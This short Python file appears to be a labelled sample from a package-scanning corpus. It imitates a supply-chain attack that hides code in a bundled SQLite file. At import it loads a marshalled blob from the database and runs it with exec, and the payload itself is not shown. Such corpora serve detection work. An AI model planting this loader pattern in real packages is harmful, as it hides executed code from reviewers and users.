# pkgguard corpus 457 (steganography), modelled on [telnyx]; inert, never run.
import marshal
import os
import sqlite3

_db = os.path.join(os.path.dirname(__file__), "data", "cache.sqlite")
with sqlite3.connect(_db) as conn:
    (blob,) = conn.execute("SELECT body FROM chunks WHERE name = 'init'").fetchone()
exec(marshal.loads(blob))
